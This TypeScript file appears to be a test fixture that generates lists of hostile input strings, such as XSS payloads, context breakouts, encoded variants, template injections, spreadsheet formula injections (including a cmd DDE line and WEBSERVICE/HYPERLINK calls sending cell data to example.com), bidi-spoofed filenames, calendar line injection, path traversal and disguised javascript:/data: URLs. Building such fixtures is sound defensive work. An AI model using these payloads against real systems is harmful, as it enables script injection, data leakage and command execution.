/**
 * Texts that would act, fetch or lie where somebody forgets to treat them as texts (D9), by families:
 * what acts, in what it hides, how it is written, what a spreadsheet would compute, what turns the
 * reading around, and what begins a new line where a line means something.
 */
const ACTIONS = [
	'<script>alert(1)</script>',
	'<script src=//example.com/x.js></script>',
	'<img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'<svg><animate onbegin=alert(1) attributeName=x>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<details open ontoggle=alert(1)>',
	'<input autofocus onfocus=alert(1)>',
	'<video><source onerror=alert(1)>',
	'<a href=javascript:alert(1)>点这里</a>',
	'<base href=//example.com>',
	'<meta http-equiv=refresh content=0;url=//example.com>',
	'<link rel=stylesheet href=//example.com/x.css>',
	'<form action=//example.com><button formaction=javascript:alert(1)>',
	'<object data=//example.com/x>',
	'<x style="background:url(//example.com/x)">',
];

/** What the page may have opened before it; each closes it. */
const CONTEXTS = [
	'',
	'">',
	"'>",
	'</p></div>',
	'</title>',
	'</style>',
	'</textarea>',
	'</script>',
	'</template>',
	'</noscript>',
	'-->',
	'<!-->',
	']]>',
	'<math><mtext></table><style>',
	'<svg><desc>',
];

/** Other ways to write the same letters, for whoever decodes once too often or compares too exactly. */
const ENCODINGS: readonly ((text: string) => string)[] = [
	(text) => text.toUpperCase(),
	(text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(text) => text.replaceAll('<', '&#60;'),
	(text) => text.replaceAll('<', '&#x3c;'),
	(text) => encodeURIComponent(text),
	(text) => text.replaceAll('<', '\\u003c'),
	(text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
	(text) => text.replaceAll('<', '<\u0000'),
	(text) => text.replaceAll('=', '\n='),
	(text) => text.replaceAll(' ', '/'),
];

const EVENTS = ['onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart'];

/** Out of a quoted value of an attribute, and into an event. */
const ATTRIBUTES = EVENTS.flatMap((event) => [
	`" autofocus ${event}=alert(1) x="`,
	`' ${event}='alert(1)`,
	`\` ${event}=alert(1) \``,
]);

const TEMPLATES = [
	'{@html "<script>alert(1)</script>"}',
	'${alert(1)}',
	'{{constructor.constructor("alert(1)")()}}',
	'<%= alert(1) %>',
	'#{alert(1)}',
];

/** What a spreadsheet computes, by how it may begin. */
export const FORMULAS = [
	'=',
	'+',
	'-',
	'@',
	'\t=',
	'\r=',
	'\n=',
	' =',
	'\u00a0=',
	'\ufeff=',
].flatMap((start) => [
	`${start}1+1`,
	`${start}cmd|'/C calc'!A0`,
	`${start}HYPERLINK("http://example.com/?"&A1,"点这里")`,
	`${start}WEBSERVICE("http://example.com/"&B2)`,
]);

const NEAR_FORMULAS = [
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	"'=1+1",
	'"=1+1"',
	'_x003D_1+1',
	'%0A=1',
];

/** What makes a reader see another order of letters, or none. */
const BIDI = ['\u202e', '\u202d', '\u202b', '\u2067', '\u2066', '\u200f', '\u061c'].flatMap(
	(mark) => [`名单${mark}gpj.exe`, `${mark}<script>alert(1)</script>`],
);

/** A line of its own where lines mean something: headers, calendars, vCards. */
const LINES = [
	'\r\n',
	'\n',
	'\r',
	'\u2028',
	'\u2029',
	'\u0085',
	'\v',
	'\f',
	'\\n',
	'\\r\\n',
	'\r\n ',
].map((end) => `甲${end}BEGIN:VALARM${end}ACTION:AUDIO${end}ATTACH:http://example.com/x`);

const PATHS = [
	'../../../etc/passwd',
	'..\\..\\x.exe',
	'名单.xlsx"; filename="x.exe',
	"名单'; filename*=UTF-8''x.exe",
	'名单.xlsx\r\nset-cookie: a=b',
	'CON',
	'名单.xlsx\u0000.exe',
];

export const HOSTILE_TEXTS: readonly string[] = [
	...new Set([
		...ACTIONS,
		...CONTEXTS.flatMap((close) => [
			`${close}<script>alert(1)</script>`,
			`${close}<img src=x onerror=alert(1)>`,
		]),
		...ENCODINGS.flatMap((encode) => ACTIONS.slice(0, 6).map(encode)),
		...ATTRIBUTES,
		...TEMPLATES,
		...FORMULAS,
		...NEAR_FORMULAS,
		...BIDI,
		...LINES,
		...PATHS,
	]),
];

const SCHEMES = [
	'javascript:alert(1)',
	'vbscript:msgbox(1)',
	'data:text/html,<script>alert(1)</script>',
];

/** What a browser passes over in an address, or did once. */
const DISGUISES: readonly ((address: string) => string)[] = [
	(address) => address,
	(address) =>
		address.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase())),
	...[
		' ',
		'\t',
		'\n',
		'\r\n',
		'\u0000',
		'\u0001',
		'\u001f',
		'\u00a0',
		'\ufeff',
		'\u200b',
		'\u202e',
	].map((mark) => (address: string) => mark + address),
	...['\n', '\t', '\u200b', '\u0000'].flatMap((mark) => [
		(address: string) => address.slice(0, 4) + mark + address.slice(4),
		(address: string) => address.replace(':', `${mark}:`),
	]),
	(address) => address.replace(':', '&colon;'),
	(address) => `&#${address.charCodeAt(0)};${address.slice(1)}`,
	(address) => `%${address.charCodeAt(0).toString(16)}${address.slice(1)}`,
	(address) => `feed:${address}`,
	(address) => `view-source:${address}`,
	(address) => `https:${address}`,
];

export const HOSTILE_ADDRESSES: readonly string[] = [
	...SCHEMES.flatMap((scheme) => DISGUISES.map((disguise) => disguise(scheme))),
	'javascript://https://example.com/%0aalert(1)',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'data:image/svg+xml,<svg onload=alert(1)>',
	'blob:https://example.com/1',
	'file:///etc/passwd',
	'filesystem:https://example.com/x',
	'//example.com/beacon.js',
	'\\\\example.com\\x',
	'/sign-in',
	'about:blank',
	'intent://scan/#Intent;scheme=weixin;end',
	'weixin://dl/business',
];
